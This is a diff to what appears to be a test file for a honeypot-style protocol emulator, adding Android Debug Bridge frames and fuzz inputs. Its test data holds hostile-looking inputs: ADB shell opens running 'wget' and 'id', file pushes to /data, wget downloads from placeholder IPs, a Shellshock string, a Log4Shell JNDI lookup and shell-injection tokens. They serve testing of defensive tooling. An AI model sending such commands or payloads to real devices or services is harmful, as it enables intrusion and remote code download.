@@ -18,12 +18,20 @@ from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
+from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
 HELD_BYTES_MAX = 512 * 1024
 
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
+    "adb": (
+        CONNECT, frame(b"OPEN", 1, 0, b"sync:\0"), frame(b"WRTE", 1, 1, b"SEND\x09\0\0\0/data"),
+        frame(b"WRTE", 1, 1, b"/f,7DATA\x09\0\0\0abc")[:-2],
+        b"bc", frame(b"OPEN", 2, 0, b"shell:\0"),
+        frame(b"WRTE", 2, 2, b"wget http://a/b\r"), frame(b"OPEN", 3, 0, b"shell,v2,raw:\0"),
+        frame(b"WRTE", 3, 3, b"\0\x09\0\0\0id"),
+    ),
     "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "http": (
@@ -37,7 +45,9 @@ WORDS = [
     b"GET /shell?id HTTP/1.1\r\n\r\n", b"POST / HTTP/1.0\r\nContent-Length: 9\r\n\r\n", b"\r\n", b"\n", b"\0", b"\xff",
     b"\xff\xfa", b"\xff\xf0", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"ff;x\r\n", b"0\r\n\r\n",
     b"root\r\n", b"wget http://192.0.2.9/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
-    b"() { :;};", b"exit\n",
+    b"() { :;};", b"exit\n", CONNECT, frame(b"OPEN", 7, 0, b"shell:wget http://192.0.2.9/x\0"),
+    frame(b"OPEN", 8, 0, b"sync:\0"), frame(b"WRTE", 8, 1, b"SEND\x07\0\0\0/data/fDATA\x03\0\0\0abc"),
+    frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
